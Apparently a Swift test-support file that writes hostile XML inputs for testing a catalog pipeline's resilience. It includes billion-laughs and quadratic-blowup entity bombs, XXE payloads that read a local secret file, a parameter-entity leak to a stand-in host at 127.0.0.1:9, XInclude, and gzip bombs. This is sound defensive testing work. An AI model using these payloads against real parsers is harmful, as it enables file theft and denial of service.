@preconcurrency import CLibXML2
import Foundation
import TestSupport
import Testing
#if canImport(Glibc)
import Glibc
#endif

/// One hostile or broken catalog file, written on demand into a test folder.
///
/// Every case is something a nightly run may meet in files nobody checked: attacks on XML
/// parsers (entity expansion, external resources, inclusion), inputs that exhaust memory or
/// time (deep nesting, huge nodes, gzip bombs), broken encodings and broken files, and paths
/// that are not readable files at all. The pipeline must turn each into a quarantine row and
/// finish, reading nothing outside its inputs.
enum HostileInput: String, CaseIterable, CustomTestStringConvertible, Sendable {
    case billionLaughs = "billion-laughs"
    case quadraticBlowup = "quadratic-blowup"
    case externalEntityFile = "external-entity-file"
    case externalEntityHTTP = "external-entity-http"
    case externalDTD = "external-dtd"
    case parameterEntities = "parameter-entities"
    case xInclude = "xinclude"
    case deepNesting = "deep-nesting"
    case hugeTextNode = "huge-text-node"
    case manyAttributes = "many-attributes"
    case invalidUTF8 = "invalid-utf8"
    case bomWithConflictingDeclaration = "bom-conflicting-declaration"
    case utf16 = "utf16"
    case nulBytes = "nul-bytes"
    case truncated = "truncated"
    case trailingContent = "trailing-content"
    case gzipBombOfZeros = "gzip-bomb-zeros"
    case gzipBombOfElements = "gzip-bomb-elements"
    case emptyFile = "empty-file"
    case directory = "directory"
    case fifo = "fifo"
    case danglingSymlink = "dangling-symlink"
    case symlinkLoop = "symlink-loop"

    var testDescription: String { rawValue }

    /// What the pipeline is expected to reject.
    enum Rejection: Sendable {
        /// The whole file: a `file` quarantine row.
        case file
        /// The record that carries the payload: the attack is inert (nothing is loaded or
        /// included), which leaves that record without a reference.
        case record
    }

    var rejection: Rejection {
        switch self {
        case .externalDTD, .xInclude: .record
        default: .file
        }
    }

    /// Name of the file the case writes (`.xml`, or `.xml.gz` for the bombs).
    var fileName: String {
        switch self {
        case .gzipBombOfZeros, .gzipBombOfElements: "\(rawValue).xml.gz"
        default: "\(rawValue).xml"
        }
    }

    /// Decompressed size of the gzip bombs.
    static let bombBytes = 1 << 30

    /// Writes the case into `folder`; `secret` is a file outside the inputs that the attacks
    /// try to read. Returns the path of the written input.
    @discardableResult
    func write(into folder: String, secret: String) throws -> String {
        let path = (folder as NSString).appendingPathComponent(fileName)
        let secretURL = URL(fileURLWithPath: secret).absoluteString
        switch self {
        case .billionLaughs:
            var declarations = "<!ENTITY lol0 \"lol\">\n"
            for level in 1...9 {
                declarations += "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level - 1);", count: 10) + "\">\n"
            }
            try Self.save(path, Self.document(doctype: "<!DOCTYPE standards [\n\(declarations)]>", reference: "&lol9;"))
        case .quadraticBlowup:
            let declaration = "<!ENTITY a \"" + String(repeating: "a", count: 50_000) + "\">"
            try Self.save(path, Self.document(doctype: "<!DOCTYPE standards [\(declaration)]>",
                                              reference: String(repeating: "&a;", count: 50_000)))
        case .externalEntityFile:
            try Self.save(path, Self.document(doctype: "<!DOCTYPE standards [<!ENTITY secret SYSTEM \"\(secretURL)\">]>",
                                              reference: "&secret;"))
        case .externalEntityHTTP:
            try Self.save(path, Self.document(doctype: "<!DOCTYPE standards [<!ENTITY secret SYSTEM \"http://127.0.0.1:9/secret\">]>",
                                              reference: "&secret;"))
        case .externalDTD:
            // The DTD is never loaded, so the entity it would define stays empty.
            try Self.save(path, Self.document(doctype: "<!DOCTYPE standards SYSTEM \"\(secretURL)\">", reference: "&secret;"))
        case .parameterEntities:
            let doctype = """
            <!DOCTYPE standards [
              <!ENTITY % remote SYSTEM "\(secretURL)">
              <!ENTITY % wrapper "<!ENTITY &#x25; leak SYSTEM 'http://127.0.0.1:9/?%remote;'>">
              %wrapper;
              %leak;
            ]>
            """
            try Self.save(path, Self.document(doctype: doctype, reference: "ISO 1:2000"))
        case .xInclude:
            // XInclude is never processed, so the reference it would pull in stays empty.
            let include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"\(secretURL)\" parse=\"text\"/>"
            try Self.save(path, Self.document(doctype: "", reference: include))
        case .deepNesting:
            let depth = 100_000
            try Self.save(path, Self.prologue + "<standards>\n<standard xml:lang=\"en\"><front><std-meta>"
                + String(repeating: "<a>", count: depth) + String(repeating: "</a>", count: depth)
                + "<std-ref type=\"dated\">ISO 2:2000</std-ref></std-meta></front></standard>\n</standards>\n")
        case .hugeTextNode:
            let text = String(repeating: "0123456789abcdef", count: (20 << 20) / 16)
            try Self.save(path, Self.document(doctype: "", reference: "ISO 3:2000", title: text))
        case .manyAttributes:
            var tag = "<std-meta"
            tag.reserveCapacity(1_600_000)
            for index in 0..<100_000 { tag += " a\(index)=\"\"" }
            try Self.save(path, Self.prologue + "<standards>\n<standard xml:lang=\"en\"><front>" + tag
                + "><std-ref type=\"dated\">ISO 4:2000</std-ref></std-meta></front></standard>\n</standards>\n")
        case .invalidUTF8:
            var bytes = Array(Self.document(doctype: "", reference: "ISO 5:2000", title: "caf@").utf8)
            let at = bytes.firstIndex(of: UInt8(ascii: "@"))!
            bytes.replaceSubrange(at...at, with: [0xC3, 0x28, 0xFF, 0xFE])
            try Self.save(path, bytes)
        case .bomWithConflictingDeclaration:
            let text = Self.document(doctype: "", reference: "ISO 6:2000", title: "Qualité",
                                     prologue: "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n")
            try Self.save(path, [0xEF, 0xBB, 0xBF] + Array(text.utf8))
        case .utf16:
            // Catalogs are UTF-8; a UTF-16 file (little-endian, with its byte-order mark) is refused.
            let text = Self.document(doctype: "", reference: "ISO 7:2000",
                                     prologue: "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n")
            try Self.save(path, [0xFF, 0xFE] + text.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] })
        case .nulBytes:
            var bytes = Array(Self.document(doctype: "", reference: "ISO 8:2000", title: "before@after").utf8)
            let at = bytes.firstIndex(of: UInt8(ascii: "@"))!
            bytes[at] = 0
            try Self.save(path, bytes)
        case .truncated:
            let text = Self.document(doctype: "", reference: "ISO 9:2000")
            try Self.save(path, String(text.prefix(text.count * 2 / 3)))
        case .trailingContent:
            try Self.save(path, Self.document(doctype: "", reference: "ISO 10:2000")
                + "<standard xml:lang=\"en\"><front><std-meta><std-ref type=\"dated\">ISO 11:2000</std-ref></std-meta></front></standard>\n")
        case .gzipBombOfZeros, .gzipBombOfElements:
            try FileManager.default.copyItem(atPath: try cachedBomb(), toPath: path)
        case .emptyFile:
            try Self.save(path, [])
        case .directory:
            try FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: false)
        case .fifo:
            // Tests run as root, which reads any file whatever its mode; a FIFO with no writer
            // stands in for an unreadable file: opening it blocks forever.
            guard mkfifo(path, 0o644) == 0 else { throw HostileInputError(path: path, errno: errno) }
        case .danglingSymlink:
            try FileManager.default.createSymbolicLink(atPath: path, withDestinationPath: (folder as NSString).appendingPathComponent("missing-target.xml"))
        case .symlinkLoop:
            let other = (folder as NSString).appendingPathComponent("\(rawValue)-other.link")
            try FileManager.default.createSymbolicLink(atPath: path, withDestinationPath: other)
            try FileManager.default.createSymbolicLink(atPath: other, withDestinationPath: path)
        }
        return path
    }

    // MARK: - Documents

    static let prologue = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"

    /// A one-record NISO STS catalog whose reference element holds `reference` (raw markup).
    static func document(doctype: String, reference: String, title: String = "Hostile record", prologue: String = prologue) -> String {
        prologue + (doctype.isEmpty ? "" : doctype + "\n") + """
        <standards>
        <standard xml:lang="en"><front><std-meta><title-wrap xml:lang="en"><main>\(title)</main></title-wrap>\
        <std-ref type="dated">\(reference)</std-ref><pub-date>2000-01-01</pub-date></std-meta></front></standard>
        </standards>

        """
    }

    /// Text written into the secret file; it must never appear in any output.
    static let secretMarker = "LANDSCAPE-SECRET-7f3a9c"

    /// Writes the file the attacks point at, outside the inputs.
    static func writeSecret(_ path: String) throws {
        try save(path, "<!ENTITY secret \"\(secretMarker)\">\n\(secretMarker)\n")
    }

    static func save(_ path: String, _ text: String) throws {
        try save(path, Array(text.utf8))
    }

    static func save(_ path: String, _ bytes: [UInt8]) throws {
        guard FileManager.default.createFile(atPath: path, contents: Data(bytes)) else {
            throw HostileInputError(path: path, errno: errno)
        }
    }

    /// The bombs take seconds to deflate, so each is made once per machine, in the temporary
    /// folder, and copied from there.
    private func cachedBomb() throws -> String {
        let cache = (NSTemporaryDirectory() as NSString).appendingPathComponent("landscape-hostile-cache-v1")
        try FileManager.default.createDirectory(atPath: cache, withIntermediateDirectories: true)
        let path = (cache as NSString).appendingPathComponent(fileName)
        if FileManager.default.fileExists(atPath: path) { return path }
        let partial = path + ".\(UUID().uuidString).partial"
        let prefix = Self.prologue + "<standards>\n"
        if self == .gzipBombOfZeros {
            try Self.writeGzip(partial, prefix: prefix, repeating: [0], bytes: Self.bombBytes, suffix: "")
        } else {
            try Self.writeGzip(partial, prefix: prefix, repeating: Array("<x/>".utf8), bytes: Self.bombBytes, suffix: "</standards>\n")
        }
        // Concurrent tests may both make it; the rename keeps one whole file.
        guard rename(partial, path) == 0 else { throw HostileInputError(path: path, errno: errno) }
        return path
    }

    /// Streams `prefix`, then `pattern` repeated up to `bytes`, then `suffix` through zlib into
    /// a gzip file, so that a 1 GiB bomb costs a few megabytes of memory and about a megabyte on disk.
    static func writeGzip(_ path: String, prefix: String, repeating pattern: [UInt8], bytes: Int, suffix: String) throws {
        guard let file = gzopen(path, "wb9") else { throw HostileInputError(path: path, errno: errno) }
        var failed = false
        func put(_ chunk: UnsafeRawBufferPointer) {
            if !failed, gzwrite(file, chunk.baseAddress, UInt32(chunk.count)) != Int32(chunk.count) { failed = true }
        }
        Array(prefix.utf8).withUnsafeBytes(put)
        let chunkSize = (1 << 20) / pattern.count * pattern.count
        let chunk = [UInt8]((0..<chunkSize).map { pattern[$0 % pattern.count] })
        var written = 0
        while written < bytes, !failed {
            let count = min(chunkSize, bytes - written)
            chunk.withUnsafeBytes { put(UnsafeRawBufferPointer(rebasing: $0[0..<count])) }
            written += count
        }
        Array(suffix.utf8).withUnsafeBytes(put)
        if gzclose(file) != Z_OK || failed { throw HostileInputError(path: path, errno: errno) }
    }
}

/// A hostile input that could not be written.
struct HostileInputError: Error, CustomStringConvertible {
    var path: String
    var errno: Int32
    var description: String { "cannot write \(path): \(String(cString: strerror(errno)))" }
}
